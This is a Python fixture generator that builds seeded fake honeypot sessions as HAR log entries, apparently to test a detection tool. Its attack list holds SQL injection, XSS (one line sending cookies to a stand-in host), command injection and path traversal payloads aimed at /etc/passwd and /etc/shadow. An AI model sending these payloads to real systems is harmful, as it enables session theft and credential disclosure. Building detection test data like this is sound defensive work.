"""Seeded honeypot sessions, the way a producer records them. Knows nothing of Sentinel."""

import random
import string

ATTACKS = [
    ("sql_injection", "1' OR '1'='1"),
    ("sql_injection", "-1 UNION SELECT username, password FROM users-- -"),
    ("sql_injection", "1; WAITFOR DELAY '0:0:5'--"),
    ("xss", "<script>fetch('//x.example/'+document.cookie)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("command_injection", "127.0.0.1; cat /etc/passwd"),
    ("command_injection", "$(id)"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%2f..%2f..%2fetc%2fshadow"),
]
ORDINARY = ["blue jacket", "42", "O'Brien & Sons", "naïve café", "2026-03-01", "list of unions", "東京"]
PATHS = ["/", "/login", "/search", "/api/v1/items", "/cart/checkout", "/static/app.js"]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "sqlmap/1.9#stable (https://sqlmap.org)",
    "curl/8.14.1",
]
UNRESERVED = set(string.ascii_letters + string.digits + "-._~")


def percent_encode(text):
    return "".join(
        char if char in UNRESERVED else "".join(f"%{byte:02X}" for byte in char.encode())
        for char in text
    )


def har_entry(rng, second, payload):
    """One HAR 1.2 entry; `payload` stands in the query, or in the body of a form."""
    path = rng.choice(PATHS)
    in_body = rng.random() < 0.3
    query = "" if in_body else "?q=" + percent_encode(payload)
    request = {
        "method": "POST" if in_body else "GET",
        "url": f"http://shop.example{path}{query}",
        "httpVersion": "HTTP/1.1",
        "headers": [
            {"name": "Host", "value": "shop.example"},
            {"name": "User-Agent", "value": rng.choice(AGENTS)},
        ],
        "bodySize": 0,
    }
    if in_body:
        text = "q=" + percent_encode(payload) + "&page=1"
        request["bodySize"] = len(text)
        request["postData"] = {"mimeType": "application/x-www-form-urlencoded", "text": text}
    status = rng.choice([200, 200, 200, 302, 404, 500])
    return {
        "startedDateTime": f"2026-03-01T10:{second // 60:02d}:{second % 60:02d}.250Z",
        "time": round(rng.uniform(1, 400), rng.choice([0, 1, 3])),
        "request": request,
        "response": {
            "status": status,
            "statusText": "",
            "headers": [{"name": "Content-Type", "value": "text/html"}],
            "bodySize": rng.randrange(20_000),
            "content": {"size": rng.randrange(20_000), "mimeType": "text/html"},
        },
        "timings": {"send": 0, "wait": rng.choice([-1, 12.5, 1e-07]), "receive": 1},
    }


def session(seed):
    """-> (HAR log object, extracted payloads, tags), the same for the same seed."""
    rng = random.Random(seed)
    hostile = rng.random() < 0.6
    entries, payloads, second = [], [], rng.randrange(600)
    for _ in range(rng.randint(1, 4)):
        kind, payload = rng.choice(ATTACKS) if hostile else ("unknown", rng.choice(ORDINARY))
        entries.append(har_entry(rng, second, payload))
        payloads.append({"id": f"p{len(payloads)}", "type": kind, "value": payload, "location": "query:q"})
        second += rng.randint(0, 20)
    log = {
        "version": "1.2",
        "creator": {"name": "honeypot", "version": "3"},
        "pages": [],
        "entries": entries,
    }
    return log, payloads, ["poi", "sql_injection-suspected"] if hostile else []
